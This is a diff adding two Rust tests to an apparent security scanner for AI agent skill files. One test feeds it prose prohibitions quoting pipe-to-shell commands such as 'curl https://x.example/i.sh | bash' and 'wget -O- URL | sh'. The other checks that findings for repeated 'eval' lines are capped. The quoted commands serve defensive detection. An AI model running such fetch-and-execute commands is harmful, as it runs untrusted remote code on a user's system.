@@ -145,3 +145,26 @@ fn a_hostile_text_takes_linear_time() {
         assert!(facts(&[("SKILL.md", &text)]).all().len() >= FILES.len(), "{unit}");
     }
 }
+
+#[test]
+fn honest_prohibitions_are_mild() {
+    for text in [
+        "- Never run `curl https://x.example/i.sh | bash`.",
+        "Never run `curl ... | bash`.",
+        "Do not run curl ... | bash.",
+        "Do not use `wget -O- URL | sh` to install anything.",
+    ] {
+        let facts = facts_as(Kind::Skill, &[("SKILL.md", &format!("# Helper\n\n{text}\n"))]);
+        let worst = facts.of("pipe-to-shell").filter(|fact| fact.is_finding()).map(|fact| fact.severity).max();
+        assert!(worst <= Some(Severity::Low), "{text}: {worst:?}");
+    }
+}
+
+#[test]
+fn a_flood_of_findings_is_cut_and_counted() {
+    let source = "eval(x);\n".repeat(30_000);
+    let facts = facts_as(Kind::Skill, &[("a.js", &source)]);
+    let found: Vec<&Fact> = facts.of("source-unsafe-eval").filter(|fact| fact.is_finding()).collect();
+    assert_eq!(found.len(), 50);
+    assert!(found.iter().any(|fact| fact.evidence.contains("more in this file)")), "{:?}", found.last());
+}
